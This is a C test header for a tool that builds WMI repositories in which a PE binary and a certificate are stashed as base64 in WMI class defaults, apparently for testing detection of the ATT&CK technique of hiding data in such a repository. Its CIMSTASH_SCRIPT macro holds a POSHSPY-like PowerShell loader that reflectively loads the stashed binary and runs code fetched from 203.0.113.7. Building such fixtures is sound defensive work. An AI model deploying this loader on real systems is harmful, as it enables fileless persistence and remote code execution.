/* cimstash: the content of `wh-cimgen stash` (tests/cli/test_stash.py), a
 * repository used as a hiding place (ATT&CK T1027.011). Test-only. */
#ifndef WH_TESTS_CIMSTASH_H
#define WH_TESTS_CIMSTASH_H

#include <stddef.h>
#include <stdint.h>

#include "gen/cimgen.h"

#define CIMSTASH_NS "root\\cimv2"
#define CIMSTASH_PE_CLASS "Win32_PerfCacheData" /* its default "Data": base64 of the PE */
#define CIMSTASH_PE_PROP "Data"
#define CIMSTASH_CFG_CLASS "Win32_UpdateCfg"    /* instance Name="cfg": Code = the script, Blob = the PE as uint8[] */
#define CIMSTASH_CERT_CLASS "Vendor_SigningCert" /* its default "Certificate": base64 of the certificate */
/* What the instance's Code holds, a POSHSPY-like loader in clear. */
#define CIMSTASH_SCRIPT                                                                        \
    "$c = [WmiClass]'root\\cimv2:Win32_PerfCacheData'; $b = [Convert]::FromBase64String("   \
    "$c.Properties['Data'].Value); [Reflection.Assembly]::Load($b); "                         \
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/s.ps1')"

/* The Windows defaults plus: class CIMSTASH_PE_CLASS whose default holds
 * base64 of pe (n bytes), class CIMSTASH_CFG_CLASS with one instance
 * holding the script and the PE as uint8[], class CIMSTASH_CERT_CLASS whose
 * default holds base64 of cert (a benign certificate). */
void cimstash_build(cimgen_model *m, const uint8_t *pe, size_t n, const uint8_t *cert, size_t ncert);

#endif
